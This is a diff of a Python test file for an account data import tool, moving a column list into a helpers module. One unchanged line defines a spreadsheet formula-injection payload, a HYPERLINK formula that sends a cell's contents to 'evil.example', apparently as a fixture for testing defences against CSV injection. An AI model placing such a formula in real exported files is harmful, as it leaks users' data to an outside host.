@@ -17,24 +17,10 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from helpers import EXAMPLES, Run, cli, execute, fetch, run_import, write_csv
+from helpers import ACCOUNT_COLUMNS, EXAMPLES, Run, cli, execute, fetch, run_import, write_csv
 
 FORMATS = ("csv", "tsv", "xlsx", "json", "jsonl")
 TEXT_FORMATS = ("csv", "tsv", "json", "jsonl")
-ACCOUNT_COLUMNS = [
-    "account_number",
-    "name",
-    "legal_name",
-    "customer_group",
-    "parent_account",
-    "website",
-    "industry",
-    "description",
-    "primary_contact_first_name",
-    "primary_contact_last_name",
-    "primary_contact_email",
-    "primary_contact_phone",
-]
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
 # fmt: off
 ACCOUNTS = [
